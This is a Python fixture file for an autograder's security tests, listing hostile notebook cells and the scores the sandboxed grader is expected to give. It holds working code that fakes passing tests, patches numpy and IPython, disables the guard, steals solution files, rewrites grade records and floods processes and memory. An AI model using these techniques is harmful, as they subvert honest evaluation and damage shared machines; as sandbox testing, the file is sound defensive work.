"""Attack hand-ins: what a hostile student who has read the grader's source would try.

Each attack is a cell added to notebook 01 right after the setup cell, in a hand-in whose
answers are otherwise blank (wrong) or perfect. ``expect`` is what the grader must give
under the sandbox; ``without_sandbox`` says what still holds with ``--sandbox none``
(the README's security table is built from this list).
"""

from __future__ import annotations

from dataclasses import dataclass

# Answers copied from wherever they can be found, then run: full marks if the theft works.
_RUN_STOLEN = '''
def _run_stolen(text):
    import json, re
    try:
        cells = json.loads(text)["cells"]
    except Exception:
        return False
    code = ["".join(c["source"]) for c in cells if c.get("metadata", {}).get("nbgrader", {}).get("solution")]
    code = [re.sub(r"### (BEGIN|END) SOLUTION", "", c) for c in code if "NotImplementedError" not in "".join(c)]
    if not code:
        return False
    for c in code:
        exec(c, globals())
    return True
'''

_WALK_FOR = _RUN_STOLEN + '''
import builtins, os
if not hasattr(builtins, "_stolen_text"):  # search once, then reuse in every answer cell
    builtins._stolen_text = None
    for _top in TOPS:
        for _folder, _dirs, _files in os.walk(_top):
            _dirs[:] = [d for d in _dirs if d not in SKIP]
            for _name in _files:
                if MATCH and builtins._stolen_text is None:
                    try:
                        builtins._stolen_text = open(os.path.join(_folder, _name), encoding="utf-8").read()
                    except OSError:
                        pass
print("stolen:", builtins._stolen_text is not None and _run_stolen(builtins._stolen_text))
'''
SKIP = ("proc", "sys", "dev", "usr", "lib", "site-packages", ".git", ".cache", ".pyenv", "pypi", "pypi-more",
        "node_modules", ".venv")

FIND = '''
import os
def _find(names):
    hits = []
    for folder, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in SKIP]
        hits += [os.path.join(folder, n) for n in files if n in names]
    return hits
'''.replace("SKIP", repr(SKIP))


def walk_for(tops: list[str], match: str) -> str:
    """Code that searches ``tops`` for files whose name satisfies ``match`` and runs the answers in them."""
    return _WALK_FOR.replace("TOPS", repr(tops)).replace("MATCH", match).replace("SKIP", repr(SKIP))


NEUTRALISE = '''
def _fake_pass(lines):
    text = "".join(lines)
    return ["pass\\n"] if "assert" in text or "raise" in text else lines
'''


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str  # the README's category
    code: str
    score: float  # expected score (of 10) under the sandbox
    status: str  # expected status under the sandbox ("a|b": either, when which limit trips first varies)
    answers: str = "blank"  # the rest of the hand-in: "blank" (wrong) or "perfect"
    placed: str = "added cell"  # or "first answer" / "every answer": the code replaces those answer cells
    # with --sandbox none: the expected (score, status), or None where the attack is not run without the
    # sandbox (it would harm the grading machine itself); the README's table says what it means
    unsandboxed: tuple[float, str] | None | str = "same"
    without_sandbox: str = "holds"  # the README's words for the unsandboxed outcome

    def expected_unsandboxed(self) -> tuple[float, str] | None:
        return (self.score, self.status) if self.unsandboxed == "same" else self.unsandboxed


ATTACKS: list[Attack] = [
    # ----------------------------------------------------------------- neutralising test cells
    Attack("input_transformer", "neutralise tests", NEUTRALISE +
           "get_ipython().input_transformers_cleanup.append(_fake_pass)", 0, "tampered"),
    Attack("input_transformer_post", "neutralise tests", NEUTRALISE +
           "get_ipython().input_transformers_post.append(_fake_pass)", 0, "tampered"),
    Attack("ast_transformer", "neutralise tests", '''
import ast
class _NoChecks(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(_NoChecks())''', 0, "tampered"),
    Attack("shell_method_on_instance", "neutralise tests", '''
_ip = get_ipython()
_run_async, _run = _ip.run_cell_async, _ip.run_cell
async def _fake_async(raw_cell, *a, **k):
    return await _run_async("pass" if "assert" in raw_cell else raw_cell, *a, **k)
_ip.run_cell_async = _fake_async
_ip.run_cell = lambda raw_cell, *a, **k: _run("pass" if "assert" in raw_cell else raw_cell, *a, **k)''',
           0, "tampered"),
    Attack("shell_method_on_class", "neutralise tests", '''
_cls = type(get_ipython())
_orig_transform = _cls.transform_cell
_cls.transform_cell = lambda self, raw_cell: "pass\\n" if "assert" in raw_cell else _orig_transform(self, raw_cell)''',
           0, "tampered"),
    Attack("kernel_execute_method", "neutralise tests", '''
_k = get_ipython().kernel
_do_execute = _k.do_execute
async def _fake_execute(code, silent, *a, **kw):
    return await _do_execute("pass" if "assert" in code else code, silent, *a, **kw)
_k.do_execute = _fake_execute''', 0, "tampered"),
    Attack("kernel_message_handler", "neutralise tests", '''
_k = get_ipython().kernel
_handler = _k.shell_handlers["execute_request"]
async def _fake_handler(stream, ident, parent):
    if "assert" in parent["content"].get("code", ""):
        parent["content"]["code"] = "pass"
    return await _handler(stream, ident, parent)
_k.shell_handlers["execute_request"] = _fake_handler''', 0, "tampered"),
    Attack("custom_exception_handler", "neutralise tests",
           "get_ipython().set_custom_exc((Exception,), lambda shell, etype, evalue, tb, tb_offset=None: None)",
           0, "tampered"),
    # A targeted, one-shot version: the first exercise's function, called by its test cell, swallows that
    # cell's failing assert, puts the handler back and makes the kernel report success. Nothing is left for
    # the guard's check to put back, and the canaries copy that test cell only 2 times in 5.
    Attack("one_shot_swallow_in_test", "neutralise tests", '''
def make_filled(shape, value, dtype=tf.float32):
    import sys
    ip = get_ipython()
    saved = (ip.custom_exceptions, ip.CustomTB)

    def swallow(shell, etype, evalue, tb, tb_offset=None):
        ip.custom_exceptions, ip.CustomTB = saved
        frame = sys._getframe()
        while frame is not None:  # the reply says "ok": clear the error IPython recorded for this cell
            if type(frame.f_locals.get("result")).__name__ == "ExecutionResult":
                frame.f_locals["result"].error_in_exec = None
            frame = frame.f_back

    ip.set_custom_exc((AssertionError,), swallow)
    return None''', 0, "tampered", placed="first answer"),
    # The first exercise's function, called by its test cell, makes NumPy's checks agree for the rest of that
    # cell and undoes it when the cell ends (an IPython event), before the guard's next check.
    Attack("one_shot_library_patch", "patch what tests use", '''
def make_filled(shape, value, dtype=tf.float32):
    import numpy
    ip = get_ipython()
    if not any(getattr(c, "__name__", "") == "_undo" for c in ip.events.callbacks["post_run_cell"]):
        originals = {name: getattr(numpy, name) for name in ("all", "array_equal")}

        def _undo(*args):
            for name, function in originals.items():
                setattr(numpy, name, function)
            ip.events.unregister("post_run_cell", _undo)

        numpy.all = numpy.array_equal = lambda *args, **kwargs: True
        ip.events.register("post_run_cell", _undo)
    return tf.zeros(shape, dtype)''', 0, "tampered", placed="first answer"),
    # The same swallow, armed and used in one statement (as when a test calls the student's function inside
    # an assert): the guard's check after each statement then finds everything back in place.
    Attack("swallow_in_one_statement", "neutralise tests", '''
import sys

def _swallow_next(exception_type):
    ip = get_ipython()
    saved = (ip.custom_exceptions, ip.CustomTB)

    def swallow(shell, etype, evalue, tb, tb_offset=None):
        ip.custom_exceptions, ip.CustomTB = saved
        frame = sys._getframe()
        while frame is not None:
            if type(frame.f_locals.get("result")).__name__ == "ExecutionResult":
                frame.f_locals["result"].error_in_exec = None
            frame = frame.f_back

    ip.set_custom_exc((exception_type,), swallow)
    return True

assert not _swallow_next(AssertionError), "armed and failed in one statement"''', 0, "tampered"),
    Attack("hidden_traceback", "neutralise tests",
           "get_ipython().showtraceback = lambda *args, **kwargs: None", 0, "tampered"),
    Attack("event_callback", "neutralise tests", '''
def _forget_errors(result):
    result.error_in_exec = None
get_ipython().events.register("post_run_cell", _forget_errors)''', 0, "tampered"),
    Attack("trace_function", "neutralise tests", '''
import sys
def _tracer(frame, event, arg):
    return _tracer
sys.settrace(_tracer)''', 0, "tampered"),
    Attack("clear_error_outputs", "fake test output", '''
import threading, time
from IPython.display import clear_output
def _wipe():
    while True:
        clear_output()
        time.sleep(0.001)
threading.Thread(target=_wipe, daemon=True).start()''', 0, "ok"),
    Attack("print_fake_pass", "fake test output",
           'print("All tests passed! 10/10")\nfrom IPython.display import display\n'
           'display({"text/plain": "nb01_ex1_tests: PASSED"}, raw=True)', 0, "ok"),
    # ----------------------------------------------------------------- patching what tests compare with
    Attack("always_equal_answer", "patch what tests use", '''
class _AlwaysEqual:
    shape = dtype = ndim = None
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __array__(self, *args, **kwargs):
        raise TypeError("no")
def make_filled(shape, value, dtype=None):
    return _AlwaysEqual()''', 0, "ok", placed="first answer"),
    Attack("numpy_allclose", "patch what tests use", "import numpy as np\nnp.allclose = lambda *a, **k: True\n"
           "np.testing.assert_allclose = lambda *a, **k: None", 0, "tampered"),
    Attack("tensor_class_method", "patch what tests use", '''
import tensorflow as tf
_EagerTensor = type(tf.constant(0.0))
_EagerTensor.__eq__ = lambda self, other: True
_EagerTensor.numpy = lambda self: __import__("numpy").zeros(0)''', 0, "tampered"),
    Attack("builtins", "patch what tests use", '''
import builtins
builtins.all = lambda iterable: True
builtins.abs = lambda x: 0''', 0, "tampered"),
    Attack("fake_numpy_module", "patch what tests use", '''
import sys, types
_fake = types.ModuleType("numpy")
_fake.allclose = lambda *a, **k: True
sys.modules["numpy"] = _fake''', 0, "tampered"),
    # ----------------------------------------------------------------- bypassing the guard itself
    Attack("occupy_guard_socket", "bypass the guard", NEUTRALISE + '''
import glob, socket
_held = []
for _path in glob.glob("/tmp/*/*/ipc/guard.sock") + glob.glob("/tmp/*/ipc/guard.sock"):
    try:
        _s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        _s.connect(_path)
        _held.append(_s)
    except OSError:
        pass
get_ipython().input_transformers_cleanup.append(_fake_pass)''', 0, "tampered"),
    Attack("disable_guard_closure", "bypass the guard", NEUTRALISE + '''
import gc, types
for _f in gc.get_objects():  # the guard's server thread calls restore() through a closure cell: empty it
    if isinstance(_f, types.FunctionType) and _f.__name__ == "serve" and _f.__closure__:
        for _cell in _f.__closure__:
            try:
                if getattr(_cell.cell_contents, "__name__", "") == "restore":
                    _cell.cell_contents = lambda: []
            except ValueError:  # an empty cell
                pass
get_ipython().input_transformers_cleanup.append(_fake_pass)''', 0, "tampered"),
    Attack("reinstall_after_restore", "bypass the guard", '''
import threading, time
_ip = get_ipython()
_run = _ip.run_cell_async
async def _quiet(raw_cell, *a, **k):
    return await _run("pass" if "assert" in raw_cell else raw_cell, *a, **k)
def _reinstall():
    while True:
        _ip.run_cell_async = _quiet
        time.sleep(0.0005)
threading.Thread(target=_reinstall, daemon=True).start()''', 0, "tampered"),
    # ----------------------------------------------------------------- answer theft
    Attack("steal_solutions", "steal answers",
           walk_for(["/"], '_name == "01_tensors.ipynb" and _folder.endswith("/solutions")'), 0, "ok",
           placed="every answer", unsandboxed=(10, "ok"),
           without_sandbox="does not hold: the solution notebooks are readable (10/10)"),
    Attack("steal_classmates", "steal answers", walk_for(["/"],
           '_name == "01_tensors.ipynb" and "honest_perfect" in _folder'), 0, "ok", placed="every answer",
           unsandboxed=(10, "ok"), without_sandbox="does not hold: classmates' hand-ins are readable (10/10)"),
    Attack("steal_gradebook_and_results", "steal answers", FIND + '''
_hits = _find(("gradebook.db", "results.json", "grades.csv"))
print("found", len(_hits))
assert not _hits, _hits''', 0, "ok", unsandboxed=(0, "ok"),
           without_sandbox="does not hold: the output folder is readable (the test only checks that this run's "
                           "score does not change)"),
    Attack("write_results", "write to results", FIND + '''
import json
_written = 0
for _path in _find(("01_tensors.json", "gradebook.db", "grades.csv")):
    try:
        if _path.endswith(".json"):
            _r = json.load(open(_path)); _r["score"] = _r["max_score"]; _r["status"] = "ok"
            json.dump(_r, open(_path, "w")); _written += 1
        else:
            open(_path, "a").write("attacker,01_tensors,10,10,ok\\n"); _written += 1
    except (OSError, ValueError):
        pass
print("wrote", _written)''', 0, "ok", unsandboxed=None,
           without_sandbox="does not hold: the kernel can write into the output folder, and a rerun reuses "
                           "stored results (not run: it would corrupt the other runs of the test suite)"),
    # ----------------------------------------------------------------- network
    Attack("local_network", "network", _RUN_STOLEN + '''
import socket
try:
    _c = socket.create_connection(("127.0.0.1", PORT), timeout=3)
    _text = b"".join(iter(lambda: _c.recv(65536), b"")).decode()
    print("received", len(_text), "bytes:", _run_stolen(_text))
except OSError as _e:
    print("no network:", _e)''', 0, "ok", placed="every answer", unsandboxed=(10, "ok"),
           without_sandbox="does not hold: the kernel reaches local ports (10/10 from an answer server)"),
    # ----------------------------------------------------------------- processes
    Attack("daemon_left_behind", "processes", '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "MARKER"])
    os._exit(0)
time.sleep(0.5)''', 0, "ok"),
    Attack("fork_flood", "processes", '''
import os
_n = 0
try:
    while _n < 100000:
        if os.fork() == 0:
            import time
            time.sleep(60)
            os._exit(0)
        _n += 1
except OSError as _e:
    print("stopped after", _n, _e)''', 0, "memory"),
    Attack("thread_flood", "processes", '''
import threading, time
_threads = []
try:
    for _ in range(100000):
        _t = threading.Thread(target=time.sleep, args=(60,), daemon=True)
        _t.start()
        _threads.append(_t)
except RuntimeError as _e:
    print("stopped after", len(_threads), "threads:", _e)''', 0, "ok|kernel_died|memory"),
    Attack("kill_the_parent", "kill the parent", '''
import os, signal, time
os.kill(os.getppid(), signal.SIGKILL)
time.sleep(1)
os.kill(os.getpid(), signal.SIGKILL)''', 0, "kernel_died", unsandboxed=(0, "grader_error"),
           without_sandbox="holds for classmates: only the attacker's own worker dies, is replaced, and the "
                           "attacker's notebook ends as grader_error after one retry"),
    # ----------------------------------------------------------------- disk and memory outside the watchdog
    Attack("fill_socket_folder", "fill the disk", '''
import os, sys
_folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])  # where the kernel's sockets are: on the host
for _i in range(1000):
    with open(f"{_folder}/junk{_i}", "wb") as _f:
        _f.write(b"x" * (32 * 2**20))''', 0, "memory"),
    Attack("fill_tmpfs", "fill the disk", '''
try:
    with open("/tmp/junk", "wb") as _f:
        for _ in range(10000):
            _f.write(b"x" * 2**20)
except OSError as _e:
    print("stopped:", _e)''', 0, "ok", unsandboxed=None,
           without_sandbox="partly: RLIMIT_FSIZE caps each file at 256 MB, not their number (not run)"),
    Attack("shared_memory", "memory outside the watchdog", '''
from multiprocessing import shared_memory
_blocks = []
try:
    for _ in range(64):
        _b = shared_memory.SharedMemory(create=True, size=64 * 2**20)
        _b.buf[:] = b"x" * len(_b.buf)
        _blocks.append(_b)
except (OSError, ValueError) as _e:
    print("stopped after", len(_blocks), _e)''', 0, "kernel_died", unsandboxed=None,
           without_sandbox="does not hold: /dev/shm is the machine's, outside the watchdog (not run)"),
    # ----------------------------------------------------------------- hidden tests through the feedback
    Attack("exfiltrate_hidden_tests", "leak hidden tests", '''
def make_filled(shape, value, dtype=None):
    ip = get_ipython()
    raise AssertionError("LEAK " + ip.user_ns["In"][-1])''', 0, "ok", placed="first answer"),
]
